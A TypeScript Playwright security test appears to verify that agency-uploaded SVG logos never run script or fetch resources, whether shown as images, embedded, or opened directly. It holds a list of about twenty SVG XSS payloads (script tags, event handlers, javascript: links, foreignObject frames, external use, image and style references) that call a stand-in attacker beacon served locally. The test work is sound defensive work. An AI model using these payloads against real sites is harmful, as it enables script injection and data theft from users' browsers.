import { createServer, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { installedBrowser, startBrowser } from '../support/browser/browser.ts';
import { startTestApp, type TestApp } from '../support/http/app.ts';
import { svgOf, uploadLogo } from '../support/hub/pictures.ts';
import { poll } from '../support/poll.ts';

/** An SVG that an agency uploads never runs script in anybody's browser, and fetches nothing: in a page, opened directly, or embedded. */

const executable = installedBrowser();
const describeInBrowser = executable ? describe : describe.skip;

/**
 * Runs script where script may run: it leaves a mark in the title, and asks for an address of the attacker. `BEACON` is the latter.
 * It is one expression without a value. The text that a `javascript:` link comes to takes the place of the page, and the request may end with the page.
 * A semicolon would end the first of `values`.
 */
const RUN = "void(document.title='ran',new Image().src='BEACON/ran')";

/** What people have hidden in pictures, by name: content of the root element, and its attributes. */
const ATTACKS: Readonly<Record<string, [content: string, attributes?: string]>> = {
  script: [`<script>${RUN}</script>`],
  'script in CDATA': [`<script type="text/javascript"><![CDATA[${RUN}]]></script>`],
  'script from elsewhere': ['<script href="BEACON/script.js"/><script xlink:href="BEACON/script.js"/>'],
  'script of another prefix': [`<h:script xmlns:h="http://www.w3.org/1999/xhtml">${RUN}</h:script>`],
  onload: ['', `onload="${RUN}"`],
  'onload of a child': [`<g onload="${RUN}"/><image href="data:," onerror="${RUN}"/>`],
  onbegin: [`<animate attributeName="x" dur="1s" onbegin="${RUN}"/><set attributeName="x" to="1" onbegin="${RUN}"/>`],
  foreignObject: [
    `<foreignObject width="100" height="100"><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="${RUN}"/><script>${RUN}</script></body></foreignObject>`,
  ],
  'a frame in foreignObject': [
    '<foreignObject width="100" height="100"><iframe xmlns="http://www.w3.org/1999/xhtml" src="BEACON/frame"/></foreignObject>',
  ],
  'a frame with a document of its own': [
    `<foreignObject width="100" height="100"><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;${RUN}&lt;/script&gt;"/></foreignObject>`,
  ],
  'a javascript link': [`<a href="javascript:${RUN}"><rect width="100" height="100"/></a>`],
  'an animated link': [
    `<a><rect width="100" height="100"/><animate attributeName="href" values="javascript:${RUN}" dur="1s" fill="freeze"/></a>`,
  ],
  'a set link': [`<a><rect width="100" height="100"/><set attributeName="xlink:href" to="javascript:${RUN}"/></a>`],
  'use of elsewhere': ['<use href="BEACON/evil.svg#x"/><use xlink:href="BEACON/evil.svg#x"/>'],
  'use of data': [
    `<use href="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' id='x' onload='${RUN.replaceAll("'", '%22')}'/%3E#x"/>`,
  ],
  'pictures of elsewhere': [
    '<image href="BEACON/pixel.png" width="9" height="9"/><image xlink:href="BEACON/pixel.png"/>',
  ],
  'styles of elsewhere': [
    '<style>@import url(BEACON/style.css); rect { fill: url(BEACON/fill.svg#f); } @font-face { font-family: f; src: url(BEACON/f.woff) } text { font-family: f }</style><rect width="9" height="9"/><text>x</text>',
  ],
  'a filter of elsewhere': [
    '<filter id="f"><feImage href="BEACON/fe.png"/></filter><rect width="9" height="9" filter="url(#f)"/>',
  ],
  handler: [
    `<handler xmlns="http://www.w3.org/2000/svg" type="text/javascript" xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${RUN}</handler>`,
  ],
  'a refresh': ['<meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=BEACON/refresh"/>'],
};

describeInBrowser('SVG logos in Chromium', () => {
  let app: TestApp;
  let browser: Browser;
  let context: BrowserContext;
  let attacker: Server;
  let beacon: string;
  /** What was asked of the attacker's server. */
  let asked: string[] = [];
  const urls = new Map<string, string>();

  /** Pages of the attacker, by path. They are served over a socket: a browser lets made-up pages ask less. */
  const pages = new Map<string, { type: string; body: string }>();

  beforeAll(async () => {
    attacker = createServer(async (request, response) => {
      const path = request.url ?? '';
      const page = pages.get(path);
      if (page) return response.setHeader('Content-Type', page.type).end(page.body);
      if (path.startsWith('/copy/')) return sendCopy(path.slice('/copy'.length), response);
      if (path !== '/favicon.ico') asked.push(path);
      response.setHeader('Access-Control-Allow-Origin', '*').end(RUN);
    }).listen(0, '127.0.0.1');
    await new Promise((listening) => attacker.once('listening', listening));
    beacon = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
    app = await startTestApp();
    for (const [name, [content, attributes]] of Object.entries(ATTACKS)) {
      const { apiKey } = await app.database.seedWorkspace();
      const svg = svgOf(content, attributes).toString().replaceAll('BEACON', beacon);
      const { body } = await uploadLogo(app, 'icon', Buffer.from(svg), apiKey).expect(200);
      urls.set(name, body.logoIconUrl);
    }
    browser = await startBrowser(executable ?? '');
    context = await browser.newContext();
  });
  afterAll(async () => {
    await browser?.close();
    attacker?.close();
    await app?.close();
  });
  beforeEach(() => {
    asked = [];
  });

  /** Sends a file of the service with its headers, but not as an attachment. */
  async function sendCopy(path: string, response: ServerResponse): Promise<void> {
    const file = await fetch(app.origin + path);
    for (const [name, value] of file.headers)
      if (name.startsWith('content-') && !/disposition|length|encoding/.test(name)) response.setHeader(name, value);
    response.end(Buffer.from(await file.arrayBuffer()));
  }

  /** Opens a page of the attacker's. */
  async function open(path: string, type: string, body: string): Promise<Page> {
    pages.set(path, { type, body });
    const page = await context.newPage();
    await page.goto(beacon + path, { waitUntil: 'load' });
    return page;
  }

  /** Whether anything was asked, once a request that the page makes last has been answered. */
  async function askedBy(page: Page): Promise<string[]> {
    await page.evaluate(`fetch('${beacon}/last')`);
    return asked.filter((path) => path !== '/last');
  }

  const pageWith = (body: string) => open('/page', 'text/html', `<!doctype html><title>safe</title>${body}`);
  const svgNamed = (name: string) =>
    svgOf(...(ATTACKS[name] ?? ['']))
      .toString()
      .replaceAll('BEACON', beacon);

  test.each(['script', 'onload', 'a javascript link', 'use of elsewhere', 'styles of elsewhere'])(
    'without the headers this one has its effect, and the test sees it: %s',
    async (name) => {
      const page = await open('/bare.svg', 'image/svg+xml', svgNamed(name));
      const hasLink = (await page.$('a')) !== null;
      await poll(
        async () => {
          // A click before the picture is painted meets nothing.
          if (hasLink) await page.mouse.click(50, 50);
          return asked;
        },
        (paths) => paths.length > 0,
      );
      await page.close();
    },
  );

  test('in a page every one of them is a picture, and nothing more', async () => {
    const pictures = [...urls.values()].map((url) => `<img src="${url}">`).join('');
    const page = await pageWith(pictures);
    const widths = await page.$$eval('img', (images) => images.map((image) => image.naturalWidth));
    // What is not well-formed for the parser of pictures has no size; most of them are shown.
    expect(widths.filter((width) => width === 100).length).toBeGreaterThan(15);
    expect([await page.title(), await askedBy(page)]).toEqual(['safe', []]);
    await page.close();
  });

  test('embedded as a document, none of them runs or fetches anything', async () => {
    const embedded = [...urls.values()].flatMap((url) => [
      `<iframe src="${url}"></iframe>`,
      `<object data="${url}"></object>`,
      `<embed src="${url}">`,
    ]);
    const page = await pageWith(embedded.join(''));
    expect([await page.title(), await askedBy(page)]).toEqual(['safe', []]);
    await page.close();
  });

  test('opened directly, each is stored as a file in place of a page', async () => {
    const page = await context.newPage();
    for (const [name, url] of urls) {
      const download = page.waitForEvent('download');
      await page.goto(url).catch(() => undefined);
      expect([name, (await download).suggestedFilename()]).toEqual([name, 'logo.svg']);
    }
    expect([page.url(), asked]).toEqual(['about:blank', []]);
    await page.close();
  });

  test('nor does one of them run or fetch when it is shown in spite of being an attachment', async () => {
    const page = await context.newPage();
    for (const [name, url] of urls) {
      await page.goto(`${beacon}/copy${new URL(url).pathname}`, { waitUntil: 'load' });
      if (await page.$('a')) await page.mouse.click(50, 50);
      expect([name, await page.title(), await page.evaluate('self.origin')]).toEqual([name, '', 'null']);
    }
    await page.goto(`${beacon}/page`);
    expect(await askedBy(page)).toEqual([]);
    await page.close();
  });
});
